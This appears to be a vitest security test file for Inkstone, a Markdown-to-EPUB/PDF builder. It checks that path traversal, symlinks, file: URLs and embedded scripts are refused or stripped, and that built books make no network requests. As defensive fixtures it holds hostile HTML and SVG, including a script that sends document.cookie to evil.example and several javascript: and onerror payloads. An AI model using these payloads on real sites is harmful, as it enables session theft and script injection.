/**
 * A manuscript is untrusted input: nothing from the build machine leaks into a book, nothing
 * runs, nothing reaches the network, and a broken manuscript fails clearly without touching
 * earlier outputs.
 */
import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync, cpSync, rmSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { inkstone, listFiles, openEpub, repoRoot, tempDir } from './helpers/cli.js';
import { haveTools, pdfText } from './helpers/tools.js';

/** A path as a regular expression's literal text. */
const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');

function manuscript(files: Record<string, string | Buffer>): string {
  const dir = tempDir('inkstone-untrusted-');
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    writeFileSync(path.join(dir, name), content);
  }
  return dir;
}

// A file of the machine, outside every manuscript, holding a token of this run: what must never
// reach a book.
const secret = `inkstone-secret-${randomBytes(12).toString('hex')}`;
const secretFile = path.join(tempDir('inkstone-outside-'), 'hostname');
writeFileSync(secretFile, `${secret}\n`);
/** The secret file as a manuscript folder's relative path. */
const climb = (dir: string) => path.relative(dir, secretFile);

/** Every byte a build wrote, decompressed: the EPUB's entries, the PDF's streams (qpdf --qdf). */
async function writtenText(out: string): Promise<Record<string, string>> {
  const texts: Record<string, string> = {};
  for (const file of readdirSync(out)) {
    const full = path.join(out, file);
    if (file.endsWith('.epub')) {
      const epub = await openEpub(full);
      for (const name of epub.names) texts[`${file}:${name}`] = (await epub.zip.file(name)?.async('nodebuffer'))?.toString('latin1') ?? '';
    } else if (file.endsWith('.pdf')) {
      texts[file] = execFileSync('qpdf', ['--qdf', '--object-streams=disable', full, '-'], { maxBuffer: 1 << 30 }).toString('latin1') + pdfText(full);
    } else texts[file] = readFileSync(full, 'latin1');
  }
  return texts;
}
const yaml = 'title: 书\nchapters: [a.md]\n';

function expectRefused(dir: string, message: RegExp) {
  const out = path.join(dir, 'out');
  const run = inkstone(['build', dir, '--out', out, '--format', 'epub']);
  expect(run.status).toBe(1);
  expect(run.stderr).toMatch(message);
  expect(run.stderr).not.toMatch(/^\s+at /m);
  expect(listFiles(out)).toEqual([]);
}

describe('files outside the manuscript', () => {
  it('refuses an image path that climbs out, naming file, line and path', () => {
    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n正文。\n' });
    writeFileSync(path.join(dir, 'a.md'), `# 章\n\n正文。\n\n![x](${climb(dir)})\n`);
    expectRefused(dir, new RegExp(`a\\.md:5:1: error: image “${escape(climb(dir))}” refused: it is outside the manuscript folder`));
  });

  it('fails with nothing written when the three come together', () => {
    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '' });
    writeFileSync(path.join(dir, 'a.md'), `# 章\n\n<script>alert(1)</script>\n\n![x](${climb(dir)})\n\n<img src="${secretFile}">\n`);
    expectRefused(dir, new RegExp(`a\\.md:5:1: error: image “${escape(climb(dir))}” refused`));
  });

  it('refuses an absolute image path in raw HTML', () => {
    const dir = manuscript({ 'book.yaml': yaml, 'a.md': `# 章\n\n<img src="${secretFile}">\n` });
    expectRefused(dir, new RegExp(`a\\.md:3:1: error: image “${escape(secretFile)}” refused: an absolute path`));
  });

  it('refuses file: URLs for images and links', () => {
    const url = `file://${secretFile}`;
    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': `# 章\n\n![x](${url})\n` }), new RegExp(`a\\.md:3:1: error: image “${escape(url)}” refused`));
    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': `# 章\n\n[x](${url})\n` }), new RegExp(`a\\.md:3:1: error: link to “${escape(url)}” refused`));
  });

  it('refuses a symlink that points out of the manuscript', () => {
    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![x](images/innocent.png)\n' });
    mkdirSync(path.join(dir, 'images'));
    symlinkSync(secretFile, path.join(dir, 'images/innocent.png'));
    expectRefused(dir, /a\.md:3:1: error: image “images\/innocent\.png” refused: it links to a file outside the manuscript folder/);
  });

  it('refuses every way the look could read a file outside: CSS, @import, a theme folder, a face — symlinked or by ../ (issue 18)', () => {
    // A file of the machine, outside the manuscript, with a token of this run.
    const token = `inkstone-secret-${createHash('sha256').update(String(Math.random())).digest('hex').slice(0, 16)}`;
    const outside = path.join(tempDir('inkstone-outside-'), 'secret.css');
    writeFileSync(outside, `.x::after { content: "${token}"; }\n`);
    const look = (yamlExtra: string, files: Record<string, string>, links: Record<string, string> = {}) => {
      const dir = manuscript({ 'book.yaml': `title: 书\n${yamlExtra}chapters: [a.md]\n`, 'a.md': '# 章\n\n正文。\n', ...files });
      for (const [name, target] of Object.entries(links)) {
        mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
        symlinkSync(target, path.join(dir, name));
      }
      return dir;
    };
    const relative = (dir: string) => path.relative(dir, outside);
    expectRefused(look('css: style.css\n', {}, { 'style.css': outside }), /book\.yaml:2:\d+: error: style sheet “style\.css” refused: it links to a file outside the manuscript folder/);
    const byPath = look('', {});
    writeFileSync(path.join(byPath, 'book.yaml'), `title: 书\ncss: ${relative(byPath)}\nchapters: [a.md]\n`);
    expectRefused(byPath, /book\.yaml:2:\d+: error: style sheet “[^”]*secret\.css” refused: it is outside the manuscript folder/);
    expectRefused(look('css: style.css\n', { 'style.css': '@import "in.css";\n' }, { 'in.css': outside }), /style\.css:1:1: error: style sheet “in\.css” refused: it links to a file outside/);
    expectRefused(look('theme: house\n', {}, { 'house/theme.css': outside }), /book\.yaml:2:\d+: error: theme “house\/theme\.css” refused: it links to a file outside/);
    expectRefused(look('font:\n  body: fonts/A-Regular.ttf\n', {}, { 'fonts/A-Regular.ttf': outside }), /book\.yaml:3:\d+: error: face “fonts\/A-Regular\.ttf” refused: it links to a file outside/);
  });

  it('refuses a link that points out of the manuscript', () => {
    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n[x](../../secret.md)\n' }), /a\.md:3:1: error: link to “\.\.\/\.\.\/secret\.md” refused: it points outside/);
  });

  it('refuses a remote image unless --allow-remote', () => {
    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![x](https://example.com/a.png)\n' }), /a\.md:3:1: error: remote image “https:\/\/example\.com\/a\.png” refused: .*--allow-remote/);
  });

  it('names a missing image', () => {
    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![图](images/none.png)\n' }), /a\.md:3:1: error: image “images\/none\.png” not found/);
  });

  it('refuses a file that is not an image, and an SVG that is not well-formed', () => {
    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![图](notes.txt)\n', 'notes.txt': 'hello' }), /a\.md:3:1: error: “notes\.txt” is not an image Inkstone can use/);
    expectRefused(manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![图](x.svg)\n', 'x.svg': '<svg xmlns="http://www.w3.org/2000/svg">\n<g>' }), /a\.md:3:1: error: SVG image “x\.svg” cannot be read: .*line 2/);
  });

  it('removes from an SVG whatever runs or reaches out, with a warning that says what', async () => {
    const svg = [
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">',
      '<style>@import url(https://evil.example/a.css); rect { fill: url(https://evil.example/p.svg#x) }</style>',
      '<script>alert(2)</script><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>',
      '<image xlink:href="http://evil.example/track.png" width="5" height="5"/><rect width="3" height="3"/>',
      '</svg>',
    ].join('\n');
    const dir = manuscript({ 'book.yaml': yaml, 'a.md': '# 章\n\n![图](x.svg)\n', 'x.svg': svg });
    const run = inkstone(['build', dir, '--out', path.join(dir, 'out'), '--format', 'epub']);
    expect(run.status).toBe(0);
    expect(run.stderr).toMatch(/3:1-3:12 warning SVG image “x\.svg”: removed an event handler \(onload\), an @import of another style sheet, .*image-svg-cleaned/);
    const epub = await openEpub(path.join(dir, 'out', 'book.epub'));
    const image = await epub.text(epub.names.find((name) => name.endsWith('.svg')) ?? '');
    expect(image).toContain('<rect');
    expect(image).not.toMatch(/evil\.example|script|onload|foreignObject|@import/i);
  });

  it('builds a hostile chapter without its scripts, and with nothing of the machine in it', async () => {
    const hostile = [
      '# 章',
      '',
      '正文<script>fetch("http://evil.example/"+document.cookie)</script>。对照 INKSTONE-CONTROL-7。',
      '',
      '<p onclick="alert(1)">点击</p>',
      '',
      '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>',
      '',
      '[链接](javascript:alert(1)) <a href="vbscript:x">另一个</a>',
      '',
      '<img src="x" onerror="alert(1)">',
      '',
      // what names the machine's file and is removed with a warning (not refused with an error)
      `<iframe src="file://${secretFile}"></iframe><object data="${secretFile}"></object><embed src="${secretFile}">`,
      '',
      `<link rel="stylesheet" href="${secretFile}"><video src="${secretFile}"></video><audio src="file://${secretFile}"></audio>`,
      '',
    ].join('\n');
    const dir = manuscript({ 'book.yaml': yaml, 'a.md': hostile.replace('<img src="x" onerror="alert(1)">', '') });
    const out = path.join(dir, 'out');
    const formats = haveTools('chromium') ? [] : ['--format', 'epub'];
    const run = inkstone(['build', dir, '--out', out, ...formats]);
    expect(run.status).toBe(0);
    expect(run.stderr).toContain('html-unsafe');
    const epub = await openEpub(path.join(out, 'book.epub'));
    for (const name of epub.names.filter((n) => n.endsWith('.xhtml'))) {
      const xhtml = await epub.text(name);
      expect(xhtml, name).not.toMatch(/<script|<iframe|<object|onclick|onerror|javascript:|vbscript:|evil\.example/i);
    }
    const written = await writtenText(out);
    // (the check reads what it should: the chapter's own control word is found in each output)
    for (const output of readdirSync(out).filter((name) => /\.(epub|pdf)$/.test(name))) expect(Object.entries(written).some(([name, text]) => name.startsWith(output) && text.includes('INKSTONE-CONTROL-7')), output).toBe(true);
    for (const [name, text] of Object.entries(written)) expect(text.includes(secret), name).toBe(false);
  });
});

describe.skipIf(!haveTools('chromium'))('no output reaches the network', () => {
  it('opens every document and image of a hostile book’s EPUB in Chromium: 0 requests leave the EPUB', async () => {
    const attacks = path.join(repoRoot, 'test/fixtures/svg-attacks');
    const files: Record<string, string | Buffer> = {
      'book.yaml': 'title: 书\ncover: images/mixed.svg\nchapters: [a.md, b.md]\n',
      'a.md': [
        '# 章',
        '',
        '正文<script>fetch("http://evil.example/")</script>。',
        '',
        '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object><link rel="stylesheet" href="https://evil.example/s.css">',
        '',
        '<p style="background:url(https://evil.example/bg)">样式</p><video src="https://evil.example/v.mp4"></video>',
        '',
        '[网址](https://example.com/) 是链接，不是请求。',
        '',
      ].join('\n'),
      'b.md': ['# 图', '', ...readdirSync(attacks).map((name) => `![${name}](images/${name})\n`)].join('\n'),
    };
    for (const name of readdirSync(attacks)) files[`images/${name}`] = readFileSync(path.join(attacks, name));
    const dir = manuscript(files);
    const out = path.join(dir, 'out');
    const run = inkstone(['build', dir, '--out', out, '--format', 'epub']);
    expect(run.status, run.stderr).toBe(0);
    const epub = await openEpub(path.join(out, 'book.epub'));
    const { launchBrowser } = await import('../src/browser/browser.js');
    const browser = await launchBrowser();
    const outside: string[] = [];
    try {
      const page = await browser.newPage();
      await page.setRequestInterception(true);
      page.on('request', (request) => {
        const url = new URL(request.url());
        const name = `OEBPS${decodeURIComponent(url.pathname)}`;
        if (url.host === 'book.invalid' && epub.zip.file(name)) {
          const type = name.endsWith('.xhtml') ? 'application/xhtml+xml' : name.endsWith('.svg') ? 'image/svg+xml' : name.endsWith('.css') ? 'text/css' : undefined;
          void epub.zip.file(name)!.async('nodebuffer').then((body) => request.respond({ status: 200, body, ...(type ? { contentType: type } : {}) }));
        } else {
          // the browser's own request, not the document's
          if (url.pathname !== '/favicon.ico') outside.push(request.url());
          void request.abort();
        }
      });
      const documents = epub.names.filter((name) => /^OEBPS\/.*\.(xhtml|svg)$/.test(name));
      expect(documents.length).toBeGreaterThan(20);
      for (const name of documents) {
        await page.goto(`http://book.invalid/${name.slice('OEBPS/'.length)}`, { waitUntil: 'load', timeout: 15_000 });
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    } finally {
      await browser.close();
    }
    expect(outside).toEqual([]);
  }, 120_000);
});

describe('failed builds leave earlier outputs alone', () => {
  it('keeps a good book.epub byte for byte when chapter 7 of the next build has a missing image', () => {
    const dir = tempDir('inkstone-atomic-');
    cpSync(path.join(repoRoot, 'test/fixtures/long-book'), dir, { recursive: true });
    const out = path.join(dir, 'dist');
    const good = inkstone(['build', dir, '--out', out, '--format', 'epub']);
    expect(good.status).toBe(0);
    const before = createHash('sha256').update(readFileSync(path.join(out, 'book.epub'))).digest('hex');
    writeFileSync(path.join(dir, 'ch07.md'), '# 印数\n\n![柱状图](images/gone.svg "历年印数")\n');
    const bad = inkstone(['build', dir, '--out', out, '--format', 'epub']);
    expect(bad.status).toBe(1);
    expect(bad.stderr).toMatch(/ch07\.md:3:1: error: image “images\/gone\.svg” not found/);
    expect(createHash('sha256').update(readFileSync(path.join(out, 'book.epub'))).digest('hex')).toBe(before);
    expect(listFiles(out)).toEqual(['book.epub']);
    rmSync(dir, { recursive: true, force: true });
  });
});
